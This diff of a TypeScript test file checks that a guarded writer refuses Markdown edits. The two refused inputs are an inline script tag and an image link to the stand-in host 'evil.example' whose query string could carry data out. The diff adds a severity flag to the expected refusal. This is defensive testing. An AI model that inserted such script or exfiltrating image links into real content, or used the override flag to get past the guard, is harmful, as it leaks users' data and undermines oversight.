@@ -103,7 +103,7 @@ test('a script cannot be written, and what a page has stays with it', async () =
   const refusal = await guarded.write('b.md', bytes('# B\n\n<script>x()</script>\n')).catch((error: unknown) => error)
   assert.ok(refusal instanceof EditRefused)
   assert.equal(refusal.message, 'Nothing was changed: b.md line 3 adds a script.')
-  assert.deepEqual(refusal.edit, { path: 'b.md', line: 3, message: 'adds a script' })
+  assert.deepEqual(refusal.edit, { path: 'b.md', line: 3, message: 'adds a script', isGrave: true })
   await assert.rejects(guarded.write('c.md', bytes('![x](//evil.example/?k=1)')), {
     message: /an image of `evil\.example` with a query\. Do not look for another way: .*--image-host evil\.example/,
   })
